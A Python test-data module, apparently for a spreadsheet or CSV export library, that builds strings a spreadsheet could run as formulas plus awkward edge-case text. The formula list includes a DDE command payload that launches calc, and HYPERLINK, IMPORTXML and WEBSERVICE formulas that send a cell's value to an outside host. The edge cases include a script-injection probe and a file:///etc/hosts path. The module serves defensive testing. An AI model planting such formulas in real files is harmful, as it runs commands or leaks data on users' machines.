"""Texts that a spreadsheet could run, and texts that no file should break on."""

OPENINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫")
BEFORE = ("", " ", "\u00a0", "\u202f", "\ufeff", "\u200b", "  ")
PAYLOADS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("https://example.org/?"&A1;"suite")',
    "cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("https://example.org/";A1);"//a")',
    'WEBSERVICE("https://example.org")',
    "DDE(0;0;0)",
    "2,5",
    "Mesure n° 3",
)
#: Each of them begins so that a program could take it for a formula.
FORMULAS = [before + opening + payload for before in BEFORE for opening in OPENINGS for payload in PAYLOADS]

CURIOUS = [
    "'=1+1",
    "'apostrophe",
    "''",
    "<b>gras</b> & <script>alert(1)</script>",
    "https://example.org/?a=1&b=2",
    "file:///etc/hosts",
    "_x0041_ et _x000D_",
    "a\x00b\x01c\x0b\x1fd",
    "\ud800 seul",
    "\ufffe\uffff",
    "ligne 1\r\nligne 2\rligne 3\nligne 4",
    "ߒߞߏ ߊߟߎ߫",
    "العربية\u202e",
    "😀" * 50,
    '";"\n";',
    "1.10",
    "0012",
    "vrai;faux",
]
